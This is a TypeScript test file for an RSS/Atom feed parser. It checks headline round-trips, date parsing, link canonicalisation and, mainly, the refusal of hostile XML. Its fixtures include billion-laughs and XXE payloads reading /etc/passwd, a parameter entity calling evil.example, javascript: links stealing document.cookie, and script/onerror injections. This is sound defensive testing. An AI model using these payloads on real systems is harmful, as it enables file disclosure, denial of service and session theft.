/**
 * News feeds (RSS, Atom) read as a stranger's data: real headlines round-trip, hostile documents are
 * refused or defused, and no input makes the reader throw or keep a link that is not http(s).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalUrl, normalizeUrl } from '../../lib/archive/url';
import { parseFeedDate } from '../../lib/sync/feed-dates';
import { fetchFeedDocument } from '../../lib/sync/fetch-feed';
import { htmlToText } from '../../lib/sync/html-text';
import { decodeFeed, NEWS_LIMITS, parseNewsFeed } from '../../lib/sync/news-feed';
import { newsHeadlines, toAtom, toRss } from '../news-fixtures';

const NOW = new Date('2026-12-05T08:00:00Z');
const BASE = 'https://techcrunch.com/feed/';
const read = (text: string, base = BASE) => parseNewsFeed(text, base, NOW);
const rss = (items: string, extra = '') =>
  `<?xml version="1.0"?><rss version="2.0"${extra}><channel><title>T</title>${items}</channel></rss>`;
const item = (fields: string) => `<item>${fields}</item>`;

describe('real headlines as RSS and Atom', () => {
  const { headlines, fromCorpus } = newsHeadlines();
  if (!fromCorpus) console.log('news-feed.test: ../shared/corpus/techcrunch-ai-2026.jsonl is absent; using the written fixtures');
  const sample = headlines.slice(0, 100);

  for (const [name, text] of [
    ['RSS 2.0', toRss(sample)],
    ['Atom 1.0', toAtom(sample)],
  ] as const) {
    it(`${name}: every headline, link, date and lede comes back as text`, () => {
      const parsed = read(text);
      expect(parsed.ok).toBe(true);
      if (!parsed.ok) return;
      expect(parsed.value.entries).toHaveLength(sample.length);
      parsed.value.entries.forEach((entry, i) => {
        const h = sample[i]!;
        expect(entry.title).toBe(h.title.replace(/\s+/g, ' ').trim());
        expect(entry.url).toBe(new URL(h.url).href);
        expect(entry.published).toBe(new Date(Date.parse(h.published)).toISOString());
        expect(entry.summary.startsWith(h.lede.replace(/\s+/g, ' ').trim().slice(0, 40))).toBe(true);
        expect(entry.summary).not.toMatch(/<[a-z/]/i);
      });
    });
  }
});

describe('dates', () => {
  it.each([
    ['Thu, 16 Apr 2026 22:55:30 +0000', '2026-04-16T22:55:30.000Z'],
    ['Thu, 16 Apr 2026 22:55:30 GMT', '2026-04-16T22:55:30.000Z'],
    ['Thu, 16 Apr 2026 18:55:30 EDT', '2026-04-16T22:55:30.000Z'],
    ['Thu, 16 Apr 2026 17:55:30 EST', '2026-04-16T22:55:30.000Z'],
    ['Thu, 16 Apr 2026 15:55:30 PDT', '2026-04-16T22:55:30.000Z'],
    ['16 Apr 26 22:55 Z', '2026-04-16T22:55:00.000Z'],
    ['Thursday, 16 April 2026 22:55:30 UT', '2026-04-16T22:55:30.000Z'],
    ['Thu, 16 Apr 2026 22:55:30 A', '2026-04-16T22:55:30.000Z'],
    ['Fri, 17 Apr 2026 04:25:30 +0530', '2026-04-16T22:55:30.000Z'],
    ['2026-04-16T18:55:30-04:00', '2026-04-16T22:55:30.000Z'],
    ['2026-04-16T22:55:30.123Z', '2026-04-16T22:55:30.000Z'],
    ['2026-04-16', '2026-04-16T00:00:00.000Z'],
  ])('%s', (text, iso) => {
    expect(new Date(parseFeedDate(text) as number).toISOString()).toBe(iso);
  });
  it.each(['', 'yesterday', '31 Feb 2026 10:00:00 GMT', '2026-13-01', 'Thu, 16 Foo 2026 22:55:30 GMT'])('not a date: %j', (text) => {
    expect(parseFeedDate(text)).toBeUndefined();
  });
  it('an entry without a believable date has none (the archive dates it when first seen)', () => {
    const parsed = read(
      rss(
        item('<title>A</title><link>https://a.com/1</link><pubDate>Mon, 01 Jan 2099 00:00:00 GMT</pubDate>') +
          item('<title>B</title><link>https://a.com/2</link>'),
      ),
    );
    expect(parsed.ok && parsed.value.entries.map((e) => e.published)).toEqual([undefined, undefined]);
  });
  it('an Atom entry is dated by its `published`, else by its `updated`', () => {
    const entry = (dates: string, n: number) => `<entry><title>E${n}</title><link href="https://a.com/${n}"/>${dates}</entry>`;
    const parsed = read(
      `<feed xmlns="http://www.w3.org/2005/Atom">${entry('<updated>2026-04-18T10:00:00Z</updated><published>2026-04-16T10:00:00Z</published>', 1)}${entry('<updated>2026-04-17T10:00:00Z</updated>', 2)}</feed>`,
    );
    expect(parsed.ok && parsed.value.entries.map((e) => e.published)).toEqual(['2026-04-16T10:00:00.000Z', '2026-04-17T10:00:00.000Z']);
  });
});

describe('links', () => {
  it('relative and protocol-relative links resolve against the feed; only http(s) stay', () => {
    const parsed = read(
      rss(
        item('<title>A</title><link>/2026/05/01/a/</link>') +
          item('<title>B</title><link>//cdn.techcrunch.com/b</link>') +
          item('<title>C</title><link>javascript:alert(1)</link>') +
          item('<title>D</title><link>data:text/html,hi</link>') +
          item('<title>E</title><link>ftp://x.com/e</link>') +
          item('<title>F</title><guid>https://techcrunch.com/f</guid>') +
          item('<title>G</title><guid isPermaLink="false">https://techcrunch.com/g</guid>'),
      ),
    );
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.value.entries.map((e) => e.url)).toEqual([
      'https://techcrunch.com/2026/05/01/a/',
      'https://cdn.techcrunch.com/b',
      'https://techcrunch.com/f',
    ]);
    expect(parsed.value.skipped).toHaveLength(4);
  });
  it('the canonical address drops tracking parameters, AMP forms and the fragment; the key also www.', () => {
    expect(canonicalUrl('https://www.cnbc.com/amp/2026/05/01/x.html?utm_source=rss&id=3#top')).toBe(
      'https://www.cnbc.com/2026/05/01/x.html?id=3',
    );
    expect(canonicalUrl('https://techcrunch.com/2026/05/01/x/amp/?fbclid=1&gclid=2')).toBe('https://techcrunch.com/2026/05/01/x/');
    expect(canonicalUrl('https://amp.theguardian.com/technology/x')).toBe('https://theguardian.com/technology/x');
    expect(canonicalUrl('https://www.example.com/a.amp.html?outputType=amp')).toBe('https://www.example.com/a.html');
    expect(normalizeUrl('http://www.techcrunch.com/2026/05/01/x/amp/?utm_medium=feed')).toBe(
      normalizeUrl('https://techcrunch.com/2026/05/01/x/'),
    );
    expect(canonicalUrl('javascript:alert(1)')).toBeUndefined();
  });
});

describe('HTML in descriptions becomes text', () => {
  it('entities decoded, tags dropped, scripts and styles dropped with their content', () => {
    expect(htmlToText('<p>Caf&eacute; &amp; &lt;b&gt; <b>bold</b>&nbsp;end</p><script>alert("x")</script><style>p{}</style>')).toBe(
      'Café & <b> bold end',
    );
    expect(htmlToText('a<br>b<div>c</div>d')).toBe('a b c d');
    expect(htmlToText(`${'x'.repeat(50)} ${'y'.repeat(50)}`, 60)).toBe(`${'x'.repeat(50)}…`);
  });
});

/** Hostile documents: each is refused with a reason, or read with the danger defused. */
const TEN_MB = `<rss><channel>${'<item><title>x</title><link>https://a.com/x</link></item>'.repeat(200_000)}</channel></rss>`;
const MANY = `<rss><channel>${Array.from({ length: 100_000 }, (_, i) => (i < 600 ? `<item><title>t${i}</title><link>/${i}</link></item>` : '<item><link>/x</link></item>')).join('')}</channel></rss>`;
const hostile: [string, string, (result: ReturnType<typeof read>) => void][] = [
  [
    'billion laughs',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><rss><channel><item><title>&lol2;</title></item></channel></rss>',
    refused(/DOCTYPE/),
  ],
  [
    'external entity',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><title>&x;</title><link>https://a.com</link></item></channel></rss>',
    refused(/DOCTYPE/),
  ],
  ['parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><rss/>', refused(/DOCTYPE/)],
  ['lower-case doctype after a comment', '<!-- hi --><!doctype rss><rss/>', refused(/DOCTYPE/)],
  ['entity declaration without a doctype', '<rss><!ENTITY a "b"><channel/></rss>', refused(/ENTITY/)],
  [
    'doctype inside CDATA is text, not a declaration',
    rss(item('<title><![CDATA[The <!DOCTYPE html> story]]></title><link>https://a.com/1</link>')),
    (r) => expect(r.ok && r.value.entries[0]?.title).toBe('The story'),
  ],
  [
    'undefined entity left as text',
    rss(item('<title>A &bogus; B</title><link>https://a.com/1</link>')),
    (r) => expect(r.ok && r.value.entries[0]?.title).toContain('A'),
  ],
  ['unclosed tags', '<rss><channel><item><title>Open<link>https://a.com/1</link>', (r) => expect(r.ok).toBe(true)],
  [
    'unclosed item, then another',
    rss('<item><title>A</title><link>https://a.com/a</link><item><title>B</title><link>https://a.com/b</link></item>'),
    (r) => expect(r.ok).toBe(true),
  ],
  [
    'stray closing tags',
    rss(`</foo></item>${item('<title>A</title><link>https://a.com/a</link>')}`),
    (r) => expect(r.ok && r.value.entries.map((e) => e.url)).toEqual(['https://a.com/a']),
  ],
  ['CDATA that never ends', rss(item('<title><![CDATA[never ends</title>')), (r) => expect(r.ok && r.value.entries).toEqual([])],
  [
    'CDATA hiding a script',
    rss(
      item(
        '<title>T</title><link>https://a.com/1</link><description><![CDATA[<script>alert(1)</script><img src=x onerror=alert(1)>ok]]></description>',
      ),
    ),
    (r) => expect(r.ok && r.value.entries[0]?.summary).toBe('ok'),
  ],
  [
    'CDATA closing early',
    rss(item('<title><![CDATA[a]]>]]></title><link>https://a.com/1</link>')),
    (r) => expect(r.ok && r.value.entries[0]?.title).toBe('a]]>'),
  ],
  [
    'script in a title',
    rss(item('<title>&lt;script&gt;alert(1)&lt;/script&gt;Real title</title><link>https://a.com/1</link>')),
    (r) => expect(r.ok && r.value.entries[0]?.title).toBe('Real title'),
  ],
  [
    'markup-only title',
    rss(item('<title>&lt;img src=x onerror=alert(1)&gt;</title><link>https://a.com/1</link>')),
    (r) => expect(r.ok && r.value.entries).toEqual([]),
  ],
  [
    'javascript: link',
    rss(item('<title>T</title><link>javascript:alert(document.cookie)</link>')),
    (r) => expect(r.ok && r.value.entries).toEqual([]),
  ],
  [
    'javascript: link with spaces and case',
    rss(item('<title>T</title><link>  JaVaScRiPt:alert(1)</link>')),
    (r) => expect(r.ok && r.value.entries).toEqual([]),
  ],
  [
    'data: link in Atom',
    '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>T</title><link href="data:text/html,x"/></entry></feed>',
    (r) => expect(r.ok && r.value.entries).toEqual([]),
  ],
  [
    'link with credentials',
    rss(item('<title>T</title><link>https://user:pass@a.com/1</link>')),
    (r) => expect(r.ok && r.value.entries).toEqual([]),
  ],
  [
    'a web page, not a feed',
    '<!-- x --><html><head><title>Home</title></head><body><a href="/feed">Feed</a></body></html>',
    refused(/web page/),
  ],
  ['an HTML5 page with its doctype', '<!DOCTYPE html><html><body>hi</body></html>', refused(/DOCTYPE/)],
  ['JSON, not XML', '{"items": []}', refused(/empty or not XML/)],
  [
    'another XML vocabulary',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    refused(/root element is <svg>/),
  ],
  ['empty document', '', refused(/empty/)],
  [
    '100,000 items',
    MANY,
    (r) => {
      expect(r.ok && r.value.entries).toHaveLength(NEWS_LIMITS.entries);
      expect(r.ok && r.value.skipped.at(-1)).toMatch(/more than 500 entries/);
    },
  ],
  ['a 10 MB feed', TEN_MB, refused(/larger than 4 MB/)],
  [
    'deep nesting',
    rss(item(`<title>T</title><link>https://a.com/1</link><description>${'<x>'.repeat(50_000)}deep</description>`)),
    refused(/nest deeper/),
  ],
  [
    'deep nesting inside escaped HTML',
    rss(item(`<title>T</title><link>https://a.com/1</link><description>${'&lt;b&gt;'.repeat(50_000)}deep</description>`)),
    (r) => expect(r.ok && r.value.entries).toHaveLength(1),
  ],
  [
    'a huge description is cut',
    rss(item(`<title>T</title><link>https://a.com/1</link><description>${'word '.repeat(300_000)}</description>`)),
    (r) => expect(r.ok && r.value.entries[0]!.summary.length).toBeLessThanOrEqual(NEWS_LIMITS.summaryChars + 1),
  ],
  [
    'control characters and zero-width ones in a title',
    rss(item('<title>A\u0007\u200bB&#x1;C</title><link>https://a.com/1</link>')),
    (r) => expect(r.ok && r.value.entries[0]?.title).toBe('ABC'),
  ],
  [
    'the same link twice',
    rss(item('<title>A</title><link>https://a.com/1</link>') + item('<title>B</title><link>https://a.com/1</link>')),
    (r) => expect(r.ok && r.value.entries).toHaveLength(1),
  ],
  [
    'media:title is not the title',
    rss(
      item('<media:title>Wrong</media:title><title>Right</title><link>https://a.com/1</link>'),
      ' xmlns:media="http://search.yahoo.com/mrss/"',
    ),
    (r) => expect(r.ok && r.value.entries[0]?.title).toBe('Right'),
  ],
];

function refused(reason: RegExp) {
  return (result: ReturnType<typeof read>) => {
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error).toMatch(reason);
  };
}

describe('hostile XML', () => {
  it(`lists at least 25 cases (${hostile.length})`, () => expect(hostile.length).toBeGreaterThanOrEqual(25));
  it.each(hostile)('%s', (_name, text, check) => check(read(text)));

  it('wrong encodings declared: UTF-16 declared on ASCII bytes reads as UTF-8; Latin-1 declared reads as Latin-1; an unknown one is refused', () => {
    const bytes = (text: string) => new TextEncoder().encode(text);
    const utf16 = decodeFeed(
      bytes(
        '<?xml version="1.0" encoding="UTF-16"?><rss><channel><item><title>Café</title><link>https://a.com/1</link></item></channel></rss>',
      ),
    );
    expect(utf16.ok && read(utf16.value).ok).toBe(true);
    expect(utf16.ok && utf16.value).toContain('Café');
    const latin1 = decodeFeed(new Uint8Array([...bytes('<?xml version="1.0" encoding="ISO-8859-1"?><t>Caf'), 0xe9, ...bytes('</t>')]));
    expect(latin1.ok && latin1.value).toContain('Café');
    expect(decodeFeed(bytes('<?xml version="1.0" encoding="x-klingon"?><rss/>'))).toMatchObject({
      ok: false,
      error: expect.stringMatching(/encoding/),
    });
    const bom16 = new Uint8Array([0xff, 0xfe, ...[...'<rss/>'].flatMap((c) => [c.charCodeAt(0), 0])]);
    expect(decodeFeed(bom16)).toEqual({ ok: true, value: '<rss/>' });
    // The HTTP charset wins over the declaration (RFC 7303).
    expect(decodeFeed(new Uint8Array([0x3c, 0x74, 0x3e, 0xe9]), 'application/rss+xml; charset=windows-1252')).toEqual({
      ok: true,
      value: '<t>é',
    });
  });

  it('a 10 MB response is not even read past the limit, and a web page is refused by its type', async () => {
    const big = new TextEncoder().encode(TEN_MB);
    const fetchBig = (async () => new Response(big, { headers: { 'content-type': 'application/rss+xml' } })) as typeof fetch;
    expect(await fetchFeedDocument(fetchBig, BASE, { expect: 'xml' })).toMatchObject({
      state: 'failed',
      error: expect.stringMatching(/more than 4 MB/),
    });
    const fetchHtml = (async () =>
      new Response('<html></html>', { headers: { 'content-type': 'text/html; charset=utf-8' } })) as typeof fetch;
    expect(await fetchFeedDocument(fetchHtml, BASE, { expect: 'xml' })).toMatchObject({
      state: 'failed',
      error: expect.stringMatching(/web page/),
    });
  });
});

describe('properties', () => {
  const linkish = fc.oneof(
    fc.string(),
    fc.webUrl(),
    fc.constantFrom(
      'javascript:alert(1)',
      ' JAVASCRIPT:x',
      'data:,x',
      'vbscript:x',
      '//evil.example/x',
      '/rel',
      '?q',
      'mailto:a@b.c',
      'file:///etc/passwd',
      'http://[::1]/',
      'https://a.com/\u0000',
    ),
  );
  const xmlText = fc.string().map((s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;'));
  const anyFeed = fc
    .array(
      fc.record({
        title: fc.oneof(fc.string(), xmlText),
        link: linkish,
        date: fc.oneof(
          fc.string(),
          fc.date().map((d) => (Number.isNaN(d.getTime()) ? 'x' : d.toUTCString())),
        ),
        description: fc.string(),
      }),
      { maxLength: 8 },
    )
    .chain((items) =>
      fc
        .constantFrom('rss', 'atom')
        .map((kind) =>
          kind === 'rss'
            ? rss(
                items
                  .map((i) =>
                    item(
                      `<title>${i.title}</title><link>${i.link}</link><pubDate>${i.date}</pubDate><description>${i.description}</description>`,
                    ),
                  )
                  .join(''),
              )
            : `<feed xmlns="http://www.w3.org/2005/Atom">${items.map((i) => `<entry><title>${i.title}</title><link href="${i.link.replace(/"/g, '&quot;')}"/><updated>${i.date}</updated><summary type="html">${i.description}</summary></entry>`).join('')}</feed>`,
        ),
    );

  it('never throws, on any text', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2000 }), (text) => {
        read(text);
        decodeFeed(new TextEncoder().encode(text));
      }),
      { numRuns: 500 },
    );
  });

  it('never keeps a link that is not http(s), and keeps no entry without a title, on feed-shaped input', () => {
    fc.assert(
      fc.property(anyFeed, fc.constantFrom(BASE, 'http://example.com/a/b/feed.xml'), (text, base) => {
        const parsed = read(text, base);
        if (!parsed.ok) return;
        for (const entry of parsed.value.entries) {
          expect(new URL(entry.url).protocol).toMatch(/^https?:$/);
          expect(entry.title.length).toBeGreaterThan(0);
        }
      }),
      { numRuns: 500 },
    );
  });
});
